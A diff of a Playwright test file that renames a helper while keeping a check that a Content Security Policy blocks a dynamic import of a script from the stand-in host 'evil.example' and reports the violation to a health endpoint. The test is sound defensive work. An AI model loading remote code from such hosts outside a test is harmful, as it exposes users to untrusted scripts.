@@ -120,15 +120,15 @@ test.describe('what a page may not do is blocked and fails this suite', () => {
   });
 
   test('the edge hears of it', async ({ page, home }) => {
-    const heard = async (): Promise<number> => {
+    const received = async (): Promise<number> => {
       const headers = { 'x-qa-token': process.env.QA_TOKEN ?? 'embedded-qa' };
       const { violations } = await (await page.request.get('/healthz', { headers })).json();
       return violations['script-src-elem https://evil.example/a.js'] ?? 0;
     };
     await home.open();
-    const before = await heard();
+    const before = await received();
     await page.evaluate(() => import('https://evil.example/a.js'.slice()).catch(() => 'blocked'));
 
-    await expect.poll(heard).toBeGreaterThan(before);
+    await expect.poll(received).toBeGreaterThan(before);
   });
 });
